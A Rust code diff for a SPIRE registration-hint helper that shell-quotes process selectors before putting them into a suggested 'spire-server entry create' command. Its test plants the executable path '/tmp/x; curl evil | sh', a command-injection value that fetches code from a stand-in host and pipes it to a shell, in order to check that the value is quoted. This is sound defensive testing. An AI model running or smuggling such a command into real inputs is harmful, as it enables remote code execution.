@@ -42,16 +42,18 @@ impl Process {
 
     /// How to register a process without a registration.
     pub(crate) fn register(&self) -> String {
-        let mut selectors = self.selectors();
-        if selectors.is_empty() {
-            selectors.push("unix:uid:$(id -u)".to_owned());
-        }
-        let first = selectors.first().map_or("", String::as_str);
+        let selectors = self.selectors();
+        // For pasting: what cannot be quoted is not offered.
+        let first = selectors.iter().find_map(|selector| host::shell_quote(selector));
+        let first = first.unwrap_or_else(|| ANY_USER.to_owned());
+        let all = match selectors.is_empty() {
+            true => ANY_USER.to_owned(),
+            false => selectors.join("`, `"),
+        };
         format!(
-            "this process would match an entry with the selectors `{}`; register it with the \
+            "this process would match an entry with the selectors `{all}`; register it with the \
              agent's server, for SPIRE: `spire-server entry create -parentID AGENT -spiffeID ID \
-             -selector {first}`",
-            selectors.join("`, `"),
+             -selector {first}`"
         )
     }
 }
@@ -75,6 +77,7 @@ fn executable(maps: &str) -> Option<&str> {
     })
 }
 
+const ANY_USER: &str = "unix:uid:$(id -u)";
 const NAMESPACE: &str = "/var/run/secrets/kubernetes.io/serviceaccount/namespace";
 const STATUS_CAP: usize = 64 << 10;
 const MAPS_CAP: usize = 1 << 20;
@@ -120,5 +123,12 @@ mod tests {
         assert!(nothing.register().contains("-selector unix:uid:$(id -u)"));
         let pod = Process { namespace: Some("build".to_owned()), ..nothing };
         assert_eq!(pod.selectors(), ["k8s:ns:build"]);
+        let planted = Process {
+            executable: Some("/tmp/x; curl evil | sh".to_owned()),
+            namespace: None,
+            ..pod
+        };
+        let hint = planted.register();
+        assert!(hint.ends_with("-selector 'unix:path:/tmp/x; curl evil | sh'`"), "{hint}");
     }
 }
